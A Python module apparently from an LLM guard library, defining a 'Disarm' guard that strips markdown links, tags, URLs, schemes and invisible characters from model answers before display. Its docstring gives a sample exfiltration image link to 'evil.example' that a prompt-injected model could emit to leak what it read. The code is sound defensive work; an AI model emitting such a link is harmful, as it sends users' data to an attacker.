"""Makes text inert: what a chat window shows must not make a request, nor carry anything out.

A hijacked model writes `![](https://evil.example/?q=what-it-read)`, and whoever renders the answer sends it. No markup
is parsed here, since no two renderers agree on it: the few pairs of characters that begin a link, an image, a tag or an
address in any of them are taken apart, and characters that nobody sees are left out.
"""

from __future__ import annotations

import re
from collections.abc import Callable, Collection, Iterable, Sequence
from typing import Final
from urllib.parse import urlsplit

from ringwall.deployment.guard import Crossing, Guard, Passing, Ruling

_UNSEEN: Final = (
    r"\x00-\x08\x0b-\x1f\x7f-\x9f\xad\u034f\u061c\u115f\u1160\u17b4\u17b5\u180b-\u180f\u200b-\u200f\u2028-\u202e"
    r"\u2060-\u206f\u3164\ufe00-\ufe0f\ufeff\uffa0\ufff0-\ufffb\U000e0000-\U000e0fff"
)
_WORDED: Final = rf"[^\x00-\x7f{_UNSEEN}]"
# A joiner inside of a word or an emoji, and an emoji's colour, are how some scripts are written.
_HIDDEN: Final = (
    rf"(?!(?:(?<={_WORDED})|(?<={_WORDED}\ufe0f))[\u200c\u200d]{_WORDED})(?!(?<={_WORDED})\ufe0f)[{_UNSEEN}]"
)
_SCHEMES: Final = (
    "about|blob|chrome|data|facetime|feed|file|filesystem|ftp|geo|https?|im|intent|javascript|jar|magnet|mailto|market"
    "|ms-[a-z-]+|news|sip|skype|slack|sms|smsto|ssh|tel|vbscript|view-source|webcal|wss?|xmpp"
)
_TRAILING: Final = ".,;:!?*_"
_S: Final = r"[A-Za-z0-9+.\-]"
_N: Final = r"[A-Za-z0-9_\-]+"
_ACTIVE: Final = (
    r"(?P<link>\]\((?P<target>https?://[^\s()<>\[\]\"'\\`]+)\))"
    r"|(?P<bracket>\](?=[(:]))"
    r"|(?P<tag><(?=[A-Za-z/!?@#]))"
    rf"|(?P<url>(?<!{_S}){_S}+:[/\\]{{2}}[!-~]*)"
    rf"|(?P<scheme>(?<!{_S})(?:{_S}*[+.\-0-9])?(?i:{_SCHEMES}):(?=[!-~]))"
    rf"|(?P<name>(?<![A-Za-z0-9_.\-]){_N}(?:\.{_N})+)"
)
_hidden: Final = re.compile(_HIDDEN)
_unseen: Final = re.compile(f"[{_UNSEEN}]")
_active: Final = re.compile(_ACTIVE)
# Every match of `_active` lies in a run of printable ASCII and has one of these in it, which are quick to look for.
_sign: Final = re.compile(r"\](?=[(:])|<(?=[A-Za-z/!?@#])|:(?=[!-~])|\.(?=[A-Za-z0-9_\-])")
_run: Final = re.compile(r"[!-~]*")
_either: Final = re.compile(f"[{_UNSEEN}]|{_sign.pattern}")
_WIDE: Final = r"[\u3000-\u30ff\u3400-\u9fff\uac00-\ud7af\uff01-\uff5e]"
_wide_cut: Final = re.compile(rf".*{_WIDE}(?={_WIDE}|[ \t\n])", re.DOTALL)
_tail: Final = re.compile(r"(?::\d{1,5})?[/?#\\][!-~]*")
_plain: Final = re.compile(r"[A-Za-z0-9_~%/.:\-]*")
_end: Final = re.compile(r"[)\].,;!?'\"*>_]*$")
_address: Final = re.compile(r"https?://[^\s()<>\[\]\"'\\`]+")
_box: Final = re.compile(r"[^\s@<>()\[\],;:\"]+@$")
_top: Final = re.compile(
    r"[a-z]{2,3}|xn--[a-z0-9-]+|aero|app|asia|blog|cafe|chat|click|cloud|club|code|coop|design|dev|digital|email|host"
    r"|info|jobs|life|link|live|media|mobi|museum|name|network|news|online|page|post|shop|site|space|store|studio|tech"
    r"|test|today|tools|travel|website|wiki|work|world|zone",
    re.IGNORECASE,
)


class Disarm(Guard):
    """Takes markup, addresses and unseen characters apart in what the user is shown.

    Addresses stay readable as far as their query: `https[:]//evil[.]example/a?…`. One stays alive only if its host is
    among `hosts` (`docs.example.org`, or `*.example.org` for all below) and it stands, exactly so, in the user's own
    words or in a passage that was found for the user: a model can make up neither.

    It works on answers that something else than the user could have shaped; with `always`, on all.
    """

    name = "disarm"
    crossings = frozenset((Crossing.ANSWER,))

    def __init__(self, *, hosts: Collection[str] = (), always: bool = False) -> None:
        self.always = always
        self._hosts = frozenset(host.lower() for host in hosts if not host.startswith("*."))
        self._below = tuple(host[1:].lower() for host in hosts if host.startswith("*."))

    def __repr__(self) -> str:
        hosts = sorted((*self._hosts, *(f"*{host}" for host in self._below)))
        given = [*([f"hosts={hosts}"] if hosts else []), *(["always=True"] if self.always else [])]
        return f"Disarm({', '.join(given)})"

    async def inspect(self, passing: Passing) -> Ruling:
        text, found = self._disarmed(passing.text, passing.words)
        return Ruling(text, found)

    def settled(self, text: str, crossing: Crossing) -> int:
        cut = 1 + max(text.rfind(" "), text.rfind("\n"), text.rfind("\t"))
        wide = None if text.isascii() else _wide_cut.match(text, cut)
        return wide.end() if wide else cut

    def touches(self, text: str) -> bool:
        """Whether there may be anything to disarm in a text: quick, and never a wrong no."""
        return _either.search(text) is not None

    def disarmed(self, text: str, words: Sequence[str] = ()) -> str:
        """The text made inert; `words` are those of which an address may be taken."""
        return self._disarmed(text, lambda: words)[0]

    def _disarmed(self, text: str, words: Callable[[], Sequence[str]]) -> tuple[str, dict[str, int]]:
        found: dict[str, int] = {}
        if _unseen.search(text):
            text, unseen = _hidden.subn("", text)
            if unseen:
                found["unseen"] = unseen
        out: list[str] = []
        place = 0
        while sign := _sign.search(text, place):
            start = _start_of_run(text, sign.start(), place)
            run = _run.match(text, start)
            end = run.end() if run else sign.end()
            out += (text[place:start], self._inert_run(text[start:end], words, found))
            place = end
        return "".join((*out, text[place:])), found

    def _inert_run(self, run: str, words: Callable[[], Sequence[str]], found: dict[str, int]) -> str:
        """A run of printable ASCII made inert; what was done is counted in `found`."""
        out: list[str] = []
        place = 0
        while match := _active.search(run, place):
            new, end = self._inert(match, words)
            out += (run[place : match.start()], new)
            if new != run[match.start() : end]:
                kind = str(match.lastgroup if match["link"] is None else "link")
                found[kind] = found.get(kind, 0) + 1
            place = end
        return "".join((*out, run[place:]))

    def _inert(self, match: re.Match[str], words: Callable[[], Sequence[str]]) -> tuple[str, int]:
        """What stands in place of a match, and where to go on."""
        text, end = match[0], match.end()
        if match["link"] is not None:
            alive = self._vouched(match["target"], words)
            return (text, end) if alive else ("] (", match.start("target"))
        if match["bracket"] or match["tag"]:
            return text + " ", end
        if match["scheme"]:  # what stands before it may be a name: `www.data:`
            return text.replace(".", "[.]") + " ", end
        if match["url"]:
            bare = _end.sub("", text)
            address = bare.rstrip(_TRAILING)
            return (text, end) if self._vouched(address, words) else (_readable(text), end)
        return self._inert_name(match, words)

    def _inert_name(self, match: re.Match[str], words: Callable[[], Sequence[str]]) -> tuple[str, int]:
        """A name with dots: with a path, a mailbox or three parts it could be called, and tell its owner something."""
        name = match[0]
        *rest, top = name.split(".")
        tail = _tail.match(match.string, match.end())
        callable_ = _top.fullmatch(top) is not None or (top.isdecimal() and len(rest) == 3)
        www = rest[0].lower().endswith("www")
        if tail and (callable_ or www):
            return _readable(name + tail[0]), tail.end()
        box = _box.search(match.string, max(match.start() - 80, 0), match.start())
        called = box is not None or www or (callable_ and not top.isdecimal() and len(rest) > 1)
        if not called or _stands_in(box[0] + name if box else name, words()):
            return name, match.end()
        return _readable(name), match.end()

    def _vouched(self, address: str, words: Callable[[], Sequence[str]]) -> bool:
        if not (self._hosts or self._below) or not _address.fullmatch(address):
            return False
        try:
            parts = urlsplit(address)
            host = (parts.hostname or "").lower()
        except ValueError:
            return False
        if "@" in parts.netloc or not (host in self._hosts or host.endswith(self._below)):
            return False
        return any(address == said.rstrip(_TRAILING) for text in words() for said in _address.findall(text))


def _start_of_run(text: str, place: int, least: int) -> int:
    while place > least and "!" <= text[place - 1] <= "~":
        place -= 1
    return place


def _stands_in(name: str, words: Iterable[str]) -> bool:
    whole = re.compile(rf"(?<![\w.\-]){re.escape(name)}(?![\w\-])")
    return any(whole.search(text) for text in words)


def _readable(address: str) -> str:
    """An address as one can read it and nobody can follow it: its plain beginning, and what closes it."""
    close = _end.search(address)
    end = close[0] if close else ""
    body = address[: len(address) - len(end)]
    plain = _plain.match(body)
    shown = plain[0] if plain else ""
    left_out = body[len(shown) :]
    mark = "?…" if left_out.startswith("?") else "…" if left_out else ""
    return shown.replace(":", "[:]").replace(".", "[.]") + mark + end


DISARM: Final = Disarm()
"""What an app has if it is given no other."""

active: Final = _either.search
"""Whether there may be anything to disarm in a text: `Disarm.touches` at the price of one call, for every run."""

__all__ = ["DISARM", "Disarm", "active"]
